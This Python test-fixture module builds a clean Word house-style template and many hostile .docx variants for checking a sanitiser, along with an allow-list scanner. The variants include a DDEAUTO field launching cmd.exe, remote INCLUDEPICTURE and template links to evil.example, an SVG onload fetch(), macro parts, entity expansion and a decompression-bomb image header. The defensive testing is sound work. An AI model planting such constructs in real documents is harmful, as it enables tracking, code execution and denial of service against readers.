"""House-style .docx files crafted part by part: a normal one, and each hostile addition.

``normal_house_style()`` is what an organisation uploads: changed and own named styles, a
header with a logo (PNG) and text, a footer with page fields, sample text in the body.
Each entry of ``HOSTILE`` adds one thing a house style must not carry into a plan, and
names the removal codes the admin must be told about; ``REFUSED`` ones must be refused.
``hostile_markers`` checks a package against the specification, independently of the
sanitiser: what it finds must never be in a stored template or a generated plan.
"""

from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable

from docx import Document
from docx.enum.style import WD_STYLE_TYPE
from lxml import etree
from PIL import Image

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
OD = R + "/"
NS = (
    f'xmlns:w="{W}" xmlns:r="{R}" xmlns:v="urn:schemas-microsoft-com:vml" '
    'xmlns:o="urn:schemas-microsoft-com:office:office"'
)
EVIL = "http://evil.example"
HEADER_TEXT = "Adviesbureau Noord"
OWN_STYLE = "Huisstijl Accent"


def png(width=120, height=40) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), (0, 90, 160)).save(out, "PNG")
    return out.getvalue()


class Docx:
    """A .docx as a dict of parts, edited in place and packed again."""

    def __init__(self, data: bytes):
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            self.parts = {name: archive.read(name) for name in archive.namelist()}

    def pack(self) -> bytes:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in self.parts.items():
                archive.writestr(name, data)
        return out.getvalue()

    def xml(self, name: str) -> etree._Element:
        return etree.fromstring(self.parts[name])

    def edit(self, name: str, change: Callable[[etree._Element], None]) -> None:
        root = self.xml(name)
        change(root)
        self.parts[name] = etree.tostring(root, xml_declaration=True, encoding="UTF-8")

    def append(self, name: str, parent_xpath: str, fragment: str) -> None:
        """Append ``fragment`` (XML with the w/r/v/o prefixes) to the first match."""
        element = etree.fromstring(f"<x {NS}>{fragment}</x>")

        def change(root):
            parent = root.xpath(parent_xpath, namespaces={"w": W})[0]
            for child in element:
                parent.append(child)

        self.edit(name, change)

    def rel(self, source: str, rel_id: str, kind: str, target: str, external=False) -> None:
        folder, base = source.rsplit("/", 1) if "/" in source else ("", source)
        path = f"{folder}/_rels/{base}.rels" if folder else f"_rels/{base}.rels"
        if path not in self.parts:
            self.parts[path] = f'<Relationships xmlns="{PKG_RELS}"/>'.encode()
        attrs = {"Id": rel_id, "Type": kind if "://" in kind else OD + kind, "Target": target}
        if external:
            attrs["TargetMode"] = "External"

        def change(root):
            etree.SubElement(root, f"{{{PKG_RELS}}}Relationship", attrs)

        self.edit(path, change)

    def content_type(self, part: str | None = None, ext: str | None = None, kind="") -> None:
        def change(root):
            if ext:
                etree.SubElement(root, f"{{{TYPES}}}Default", Extension=ext, ContentType=kind)
            else:
                etree.SubElement(root, f"{{{TYPES}}}Override", PartName=part, ContentType=kind)

        self.edit("[Content_Types].xml", change)

    def header(self) -> str:
        return next(n for n in self.parts if re.fullmatch(r"word/header\d+\.xml", n))

    def footer(self) -> str:
        return next(n for n in self.parts if re.fullmatch(r"word/footer\d+\.xml", n))


def normal_house_style() -> Docx:
    doc = Document()
    doc.styles["Heading 1"].font.name = "Georgia"
    own = doc.styles.add_style(OWN_STYLE, WD_STYLE_TYPE.PARAGRAPH)
    own.font.italic = True
    section = doc.sections[0]
    header = section.header.paragraphs[0]
    header.add_run().add_picture(io.BytesIO(png()))
    header.add_run(HEADER_TEXT)
    section.footer.paragraphs[0].text = "pagina "
    doc.add_paragraph("Voorbeeldtekst die moet verdwijnen")
    out = io.BytesIO()
    doc.save(out)
    docx = Docx(out.getvalue())
    docx.append(
        docx.footer(),
        "//w:p[1]",
        '<w:fldSimple w:instr=" PAGE \\* MERGEFORMAT "><w:r><w:t>1</w:t></w:r></w:fldSimple>'
        '<w:r><w:t xml:space="preserve"> van </w:t></w:r>'
        + complex_field(" NUMPAGES \\* Arabic ", result="1"),
    )
    return docx


def complex_field(*instruction: str, result: str = "x", nested: str = "") -> str:
    """A complex field: begin, the instruction (in pieces), [nested], separate, result, end."""
    pieces = "".join(
        f'<w:r><w:instrText xml:space="preserve">{p}</w:instrText></w:r>' for p in instruction
    )
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + pieces
        + nested
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        + f"<w:r><w:t>{result}</w:t></w:r>"
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def _paragraph(docx: Docx, part: str, content: str) -> None:
    root_tag = "w:hdr" if "header" in part else "w:ftr" if "footer" in part else "w:body"
    xpath = f"/{root_tag}" if root_tag != "w:body" else "//w:body"
    docx.append(part, xpath, f"<w:p>{content}</w:p>")
    if root_tag == "w:body":  # keep the sectPr last

        def change(root):
            body = root.find(f"{{{W}}}body")
            body.append(body.find(f"{{{W}}}sectPr"))

        docx.edit(part, change)


def _logo_run_with(docx: Docx, blip_attributes: str) -> str:
    """The header logo's run, its picture pointing elsewhere."""
    root = docx.xml(docx.header())
    run = root.xpath("//w:r[w:drawing]", namespaces={"w": W})[0]
    text = etree.tostring(run).decode()
    return re.sub(r'r:embed="[^"]+"', blip_attributes, text)


# --- hostile additions: name -> (change, removal codes the admin must see) ---------------


def remote_attached_template(d: Docx) -> None:
    d.append(
        "word/settings.xml", "/w:settings", '<w:attachedTemplate r:id="rIdEvilTpl"/><w:linkStyles/>'
    )
    d.rel("word/settings.xml", "rIdEvilTpl", "attachedTemplate", f"{EVIL}/t.dotm", external=True)


def include_picture(d: Docx) -> None:
    _paragraph(d, d.header(), complex_field(f' INCLUDEPICTURE "{EVIL}/p.png" \\d ', result="logo"))


def include_picture_split(d: Docx) -> None:
    _paragraph(d, d.header(), complex_field(" INCLUDE", f'PICTURE "{EVIL}/q.png" ', result="q"))


def include_text_simple(d: Docx) -> None:
    _paragraph(
        d,
        d.footer(),
        f"<w:fldSimple w:instr=' INCLUDETEXT \"{EVIL}/x.docx\" '><w:r><w:t>t</w:t></w:r></w:fldSimple>",
    )


def dde_auto(d: Docx) -> None:
    _paragraph(d, d.header(), complex_field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '))


def dde_simple(d: Docx) -> None:
    _paragraph(d, d.footer(), '<w:fldSimple w:instr=" DDE excel data!R1C1 "/>')


def nested_in_page(d: Docx) -> None:
    inner = complex_field(f' INCLUDEPICTURE "{EVIL}/n.png" ', result="n")
    _paragraph(d, d.header(), complex_field(" PAGE ", result="1", nested=inner))


def hyperlink_field(d: Docx) -> None:
    _paragraph(d, d.footer(), complex_field(f' HYPERLINK "{EVIL}/h" ', result="website"))


def unclosed_field(d: Docx) -> None:
    _paragraph(
        d,
        d.footer(),
        '<w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r>'
        f'<w:r><w:instrText> INCLUDETEXT "{EVIL}/u" </w:instrText></w:r>',
    )


def external_hyperlink(d: Docx) -> None:
    _paragraph(
        d, d.header(), '<w:hyperlink r:id="rIdEvilLink"><w:r><w:t>site</w:t></w:r></w:hyperlink>'
    )
    d.rel(d.header(), "rIdEvilLink", "hyperlink", f"{EVIL}/site", external=True)


def linked_image(d: Docx) -> None:
    _paragraph(d, d.header(), _logo_run_with(d, 'r:link="rIdEvilImg"'))
    d.rel(d.header(), "rIdEvilImg", "image", f"{EVIL}/tracker.png", external=True)


def external_embedded_image(d: Docx) -> None:
    _paragraph(d, d.header(), _logo_run_with(d, 'r:embed="rIdEvilImg2"'))
    d.rel(d.header(), "rIdEvilImg2", "image", f"{EVIL}/pixel.png", external=True)


def alt_chunk(d: Docx) -> None:
    d.append("word/document.xml", "//w:body", '<w:altChunk r:id="rIdEvilChunk"/>')
    d.parts["word/afchunk1.htm"] = b"<html><img src='http://evil.example/c.png'></html>"
    d.content_type(ext="htm", kind="application/xhtml+xml")
    d.rel("word/document.xml", "rIdEvilChunk", "aFChunk", "afchunk1.htm")


def ole_object(d: Docx) -> None:
    _paragraph(
        d,
        d.header(),
        '<w:r><w:object><v:shape id="_x0000_i1025" style="width:10pt;height:10pt"/>'
        '<o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" '
        'DrawAspect="Icon" ObjectID="_1" r:id="rIdEvilOle"/></w:object></w:r>',
    )
    d.parts["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0evil ole"
    d.content_type(ext="bin", kind="application/vnd.openxmlformats-officedocument.oleObject")
    d.rel(d.header(), "rIdEvilOle", "oleObject", "embeddings/oleObject1.bin")


def activex(d: Docx) -> None:
    _paragraph(
        d, d.header(), '<w:r><w:object><w:control r:id="rIdEvilAx" w:name="X"/></w:object></w:r>'
    )
    d.parts["word/activeX/activeX1.xml"] = b'<ax:ocx xmlns:ax="urn:x" ax:classid="{1}"/>'
    d.content_type("/word/activeX/activeX1.xml", kind="application/vnd.ms-office.activeX+xml")
    d.rel(d.header(), "rIdEvilAx", "control", "activeX/activeX1.xml")


def custom_xml(d: Docx) -> None:
    d.parts["customXml/item9.xml"] = b"<data><secret>payload</secret></data>"
    d.rel("word/document.xml", "rIdEvilXml", "customXml", "../customXml/item9.xml")
    _paragraph(
        d,
        d.header(),
        '<w:customXml w:uri="urn:evil" w:element="x"><w:r><w:t>k</w:t></w:r></w:customXml>'
        '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/data/secret" w:storeItemID="{0}"/></w:sdtPr>'
        "<w:sdtContent><w:r><w:t>gebonden</w:t></w:r></w:sdtContent></w:sdt>",
    )


def embedded_font(d: Docx) -> None:
    d.append(
        "word/fontTable.xml",
        "/w:fonts",
        '<w:font w:name="Evil Sans"><w:embedRegular r:id="rIdEvilFont" '
        'w:fontKey="{00000000-0000-0000-0000-000000000000}"/></w:font>',
    )
    d.parts["word/fonts/font1.odttf"] = b"\x00\x01\x00\x00" + b"\x00" * 200
    d.content_type(ext="odttf", kind="application/vnd.openxmlformats-officedocument.obfuscatedFont")
    d.rel("word/fontTable.xml", "rIdEvilFont", "font", "fonts/font1.odttf")
    d.append("word/settings.xml", "/w:settings", "<w:embedTrueTypeFonts/>")


def settings_payloads(d: Docx) -> None:
    d.append(
        "word/settings.xml",
        "/w:settings",
        '<w:updateFields w:val="true"/>'
        '<w:docVars><w:docVar w:name="x" w:val="payload"/></w:docVars>'
        '<w:mailMerge><w:mainDocumentType w:val="formLetters"/>'
        '<w:dataSource r:id="rIdEvilMm"/></w:mailMerge>'
        '<w:documentProtection w:edit="readOnly" w:enforcement="1"/>',
    )
    d.rel("word/settings.xml", "rIdEvilMm", "mailMergeSource", f"{EVIL}/list.xlsx", external=True)


def _picture(d: Docx, rel_id: str, name: str, data: bytes, ext: str, kind: str) -> None:
    _paragraph(d, d.header(), _logo_run_with(d, f'r:embed="{rel_id}"'))
    d.parts[f"word/media/{name}"] = data
    d.content_type(ext=ext, kind=kind)
    d.rel(d.header(), rel_id, "image", f"media/{name}")


def svg_image(d: Docx) -> None:
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'{EVIL}\')"/>'.encode()
    _picture(d, "rIdEvilSvg", "evil.svg", svg, "svg", "image/svg+xml")


def fake_png(d: Docx) -> None:
    _picture(d, "rIdEvilFake", "fake.gif", b"\x89PNG\r\n\x1a\nnot really", "gif", "image/gif")


def huge_png(d: Docx) -> None:
    """A PNG header claiming 60000 x 60000 pixels (a decompression bomb's promise)."""
    ihdr = struct.pack(">IIBBBBB", 60000, 60000, 8, 2, 0, 0, 0)
    chunk = b"IHDR" + ihdr
    data = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + chunk
    data += struct.pack(">I", zlib.crc32(chunk))
    _picture(d, "rIdEvilHuge", "huge.jpg", data, "jpg", "image/jpeg")


def vml_locations(d: Docx) -> None:
    _paragraph(
        d,
        d.header(),
        f'<w:r><w:pict><v:shape href="{EVIL}/x" style="width:1pt;height:1pt">'
        f'<v:imagedata src="{EVIL}/i.png" o:href="file:///c:/evil.png"/></v:shape></w:pict></w:r>',
    )


def comments_and_glossary(d: Docx) -> None:
    d.parts["word/comments.xml"] = f'<w:comments xmlns:w="{W}"/>'.encode()
    d.rel("word/document.xml", "rIdEvilCom", "comments", "comments.xml")
    d.parts["word/glossary/document.xml"] = f'<w:glossaryDocument xmlns:w="{W}"/>'.encode()
    d.rel("word/document.xml", "rIdEvilGl", "glossaryDocument", "glossary/document.xml")


def sub_document(d: Docx) -> None:
    _paragraph(d, "word/document.xml", '<w:subDoc r:id="rIdEvilSub"/>')
    d.rel("word/document.xml", "rIdEvilSub", "subDocument", f"{EVIL}/sub.docx", external=True)


def unknown_external(d: Docx) -> None:
    d.rel(d.header(), "rIdEvilOther", f"{EVIL}/rel/custom", f"{EVIL}/other", external=True)


def printer_settings(d: Docx) -> None:
    d.append("word/document.xml", "//w:sectPr", '<w:printerSettings r:id="rIdEvilPrn"/>')
    d.parts["word/printerSettings/printerSettings1.bin"] = b"\x00" * 64
    d.content_type(
        ext="bin",
        kind="application/vnd.openxmlformats-officedocument.wordprocessingml.printerSettings",
    )
    d.rel(
        "word/document.xml", "rIdEvilPrn", "printerSettings", "printerSettings/printerSettings1.bin"
    )


def body_remote_content(d: Docx) -> None:
    _paragraph(d, "word/document.xml", complex_field(f' INCLUDEPICTURE "{EVIL}/b.png" '))
    d.rel("word/document.xml", "rIdEvilBodyLink", "hyperlink", f"{EVIL}/b", external=True)


def footnote_content(d: Docx) -> None:
    d.parts["word/footnotes.xml"] = (
        f"<w:footnotes {NS}>"
        '<w:footnote w:type="separator" w:id="-1"><w:p><w:r><w:separator/></w:r></w:p></w:footnote>'
        '<w:footnote w:id="1"><w:p>'
        + complex_field(f' INCLUDETEXT "{EVIL}/f" ')
        + "</w:p></w:footnote></w:footnotes>"
    ).encode()
    d.content_type(
        "/word/footnotes.xml",
        kind="application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml",
    )
    d.rel("word/document.xml", "rIdEvilFn", "footnotes", "footnotes.xml")


HOSTILE: dict[str, tuple[Callable[[Docx], None], set[str]]] = {
    "remote_attached_template": (remote_attached_template, {"attached_template"}),
    "include_picture": (include_picture, {"field_include"}),
    "include_picture_split": (include_picture_split, {"field_include"}),
    "include_text_simple": (include_text_simple, {"field_include"}),
    "dde_auto": (dde_auto, {"field_dde"}),
    "dde_simple": (dde_simple, {"field_dde"}),
    "nested_in_page": (nested_in_page, {"field_include", "field_other"}),
    "hyperlink_field": (hyperlink_field, {"field_link"}),
    "unclosed_field": (unclosed_field, {"field_include"}),
    "external_hyperlink": (external_hyperlink, {"external_link"}),
    "linked_image": (linked_image, {"external_image"}),
    "external_embedded_image": (external_embedded_image, {"external_image"}),
    "alt_chunk": (alt_chunk, {"alt_chunk"}),
    "ole_object": (ole_object, {"ole_object"}),
    "activex": (activex, {"activex"}),
    "custom_xml": (custom_xml, {"custom_xml", "data_binding"}),
    "embedded_font": (embedded_font, {"embedded_font"}),
    "settings_payloads": (
        settings_payloads,
        {"update_fields", "doc_vars", "mail_merge", "protection"},
    ),
    "svg_image": (svg_image, {"image_refused"}),
    "fake_png": (fake_png, {"image_refused"}),
    "huge_png": (huge_png, {"image_refused"}),
    "vml_locations": (vml_locations, {"external_other"}),
    "comments_and_glossary": (comments_and_glossary, {"comments", "glossary"}),
    "sub_document": (sub_document, {"sub_document"}),
    "unknown_external": (unknown_external, {"external_other"}),
    "printer_settings": (printer_settings, {"other_part"}),
    "body_remote_content": (body_remote_content, {"external_link"}),
    "footnote_content": (footnote_content, {"notes"}),
}
# what the normal house style itself loses: its sample text, python-docx's bibliography
NORMAL_REMOVALS = {"body", "custom_xml"}


def vba_project(d: Docx) -> None:
    d.parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0vba"
    d.content_type("/word/vbaProject.bin", kind="application/vnd.ms-office.vbaProject")
    d.rel(
        "word/document.xml",
        "rIdEvilVba",
        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
        "vbaProject.bin",
    )


def macro_content_type(d: Docx) -> None:
    d.parts["[Content_Types].xml"] = d.parts["[Content_Types].xml"].replace(
        b"document.main+xml", b"document.macroEnabled.main+xml"
    )


def vba_renamed(d: Docx) -> None:
    """The macro part under an innocent name, found by its relationship type."""
    d.parts["word/data.dat"] = b"\xd0\xcf\x11\xe0vba"
    d.rel(
        "word/document.xml",
        "rIdEvilVba2",
        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
        "data.dat",
    )


def doctype_entities(d: Docx) -> None:
    d.parts["word/styles.xml"] = (
        b'<?xml version="1.0"?><!DOCTYPE w:styles [<!ENTITY a "aaaaaaaaaa">'
        b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
        + f'<w:styles xmlns:w="{W}"><w:style w:styleId="x"><w:name w:val="&b;"/></w:style></w:styles>'.encode()
    )


REFUSED: dict[str, tuple[Callable[[Docx], None], str]] = {
    "vba_project": (vba_project, "macros"),
    "macro_content_type": (macro_content_type, "macros"),
    "vba_renamed": (vba_renamed, "macros"),
    "doctype_entities": (doctype_entities, "xml_invalid"),
}


def hostile_house_style(*names: str) -> bytes:
    docx = normal_house_style()
    for name in names:
        change = HOSTILE[name][0] if name in HOSTILE else REFUSED[name][0]
        change(docx)
    return docx.pack()


# --- the specification, checked on any package ------------------------------------------

ALLOWED_RELATIONSHIPS = {
    OD + kind
    for kind in [
        "officeDocument",
        "styles",
        "numbering",
        "theme",
        "fontTable",
        "settings",
        "header",
        "footer",
        "footnotes",
        "endnotes",
        "image",
        "extended-properties",
    ]
} | {"http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties"}
FORBIDDEN_ELEMENTS = [
    "altChunk",
    "object",
    "control",
    "customXml",
    "dataBinding",
    "subDoc",
    "attachedTemplate",
    "updateFields",
    "docVars",
    "mailMerge",
    "documentProtection",
    "fldData",
    "embedRegular",
    "embedBold",
    "embedItalic",
    "embedBoldItalic",
    "printerSettings",
]
FORBIDDEN_PARTS = re.compile(
    r"vba|embeddings/|activex/|customxml/|fonts/|glossary/|comments|afchunk|printersettings|\.svg$|\.bin$",
    re.I,
)
FORBIDDEN_FIELDS = re.compile(r"INCLUDE|DDE|LINK|IMPORT|MACRO|AUTOTEXT", re.I)


def hostile_markers(data: bytes, strict: bool = True) -> list[str]:
    """Everything in the package a house style or plan must not hold (empty: clean).

    ``strict``: also only the allowed relationship types and no part a house style does
    not need (a plan without a house style is built on python-docx's own default, which
    has a few harmless ones: a bibliography store, web settings, a thumbnail)."""
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    for name, content in parts.items():
        if strict and FORBIDDEN_PARTS.search(name):
            found.append(f"part {name}")
        if b"evil.example" in content or b"payload" in content:
            found.append(f"remote or payload text in {name}")
        if not (name.endswith(".xml") or name.endswith(".rels")):
            continue
        root = etree.fromstring(content)
        for rel in root.iter(f"{{{PKG_RELS}}}Relationship"):
            if rel.get("TargetMode") == "External":
                found.append(f"external relationship in {name}")
            if strict and rel.get("Type") not in ALLOWED_RELATIONSHIPS:
                found.append(f"relationship {rel.get('Type')} in {name}")
        for element in root.iter():
            if not isinstance(element.tag, str):
                continue
            local = element.tag.rsplit("}", 1)[-1]
            if element.tag.startswith(f"{{{W}}}") and local in FORBIDDEN_ELEMENTS:
                found.append(f"{local} in {name}")
            if element.get(f"{{{W}}}dirty") is not None:
                found.append(f"dirty field in {name}")
            for attribute in element.attrib:
                if attribute.rsplit("}", 1)[-1] in ("href", "src") and "vml" in element.tag:
                    found.append(f"VML location in {name}")
        instructions = "".join(t.text or "" for t in root.iter(f"{{{W}}}instrText"))
        instructions += "".join(
            f.get(f"{{{W}}}instr") or "" for f in root.iter(f"{{{W}}}fldSimple")
        )
        if FORBIDDEN_FIELDS.search(instructions):
            found.append(f"field {FORBIDDEN_FIELDS.search(instructions).group()} in {name}")
    types = parts.get("[Content_Types].xml", b"")
    if re.search(rb"macroEnabled|vbaProject|activeX|oleObject|obfuscatedFont", types, re.I):
        found.append("macro or object content type")
    return found
